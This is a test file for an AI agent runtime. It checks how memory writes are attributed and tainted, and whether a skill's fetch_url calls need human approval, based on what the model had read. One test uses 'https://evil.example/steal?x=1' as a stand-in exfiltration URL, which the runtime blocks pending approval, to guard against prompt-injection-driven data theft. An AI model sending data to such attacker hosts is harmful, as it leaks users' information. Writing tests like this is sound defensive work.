/** What the hob services make of a tool's call context: who a write is by, what a skill's calls were pointed at. */

import { assert, assertEquals, assertMatch } from "../helpers/assert.ts";
import { tempRuntime } from "../helpers/home.ts";
import { createServices, writtenBy } from "../../src/runtime/services.ts";
import { untrusted } from "../../src/core/untrusted.ts";

Deno.test("a write in a job's or the heartbeat's turn is the job's; in a chat, the agent's; direct calls, their caller's", async () => {
  await using env = await tempRuntime("memory: { embedder: none }\n");
  const { conversations: store } = env.runtime;
  const call = (conversation_id: string | null, source: "agent" | "api" | "mcp" | "cli") =>
    writtenBy(
      { tool: "remember_this", conversation_id, depth: 0, source, tainted: "fetch_url: x" },
      store,
    );
  const chat = store.createConversation({ kind: "chat" }).id;
  const job = store.createConversation({ kind: "job" }).id;
  const heartbeat = store.createConversation({ kind: "heartbeat" }).id;
  assertEquals(call(chat, "agent"), {
    author: "agent",
    via: "remember_this",
    conversation_id: chat,
    taint: "fetch_url: x",
  });
  assertEquals(call(job, "agent").author, "job");
  assertEquals(call(heartbeat, "agent").author, "job");
  assertEquals(call(null, "mcp").author, "mcp");
  assertEquals(call(null, "api").author, "owner");
  assertEquals(call(null, "cli").author, "owner");
});

Deno.test("a skill's tool calls are judged against what the turn's model had read, as the turn's own are", async () => {
  await using env = await tempRuntime(
    "memory: { embedder: none }\ntools: { approval_timeout_s: 1 }\n",
  );
  await env.runtime.toolbox.ready;
  const { services } = createServices(env.runtime.agent, env.runtime.toolbox, env.runtime.app);
  // The turn fetched a page whose links include /b: it was pointed there.
  const seen = {
    system: "",
    messages: [
      { role: "user" as const, content: "Read https://news.example/a" },
      {
        role: "assistant" as const,
        content: "",
        tool_calls: [{ id: "c", name: "fetch_url", arguments: '{"url":"https://news.example/a"}' }],
      },
      {
        role: "tool" as const,
        tool_call_id: "c",
        name: "fetch_url",
        content: untrusted("https://news.example/a", "Links:\n- https://news.example/b"),
      },
    ],
  };
  const call = (url: string) =>
    services["tools.call"]({ name: "fetch_url", args: { url } }, {
      tool: "run_skill",
      conversation_id: null,
      depth: 0,
      source: "agent",
      tainted: "https://news.example/a, read by fetch_url",
      seen,
    }) as Promise<{ content: string; is_error: boolean }>;
  // The page's link goes unasked (it fails here: no network), a composed address asks (and,
  // with no one to answer, is not run).
  const followed = await call("https://news.example/b");
  assert(!/No decision/.test(followed.content), followed.content);
  const composed = await call("https://evil.example/steal?x=1");
  assertMatch(composed.content, /No decision on fetch_url/);
});
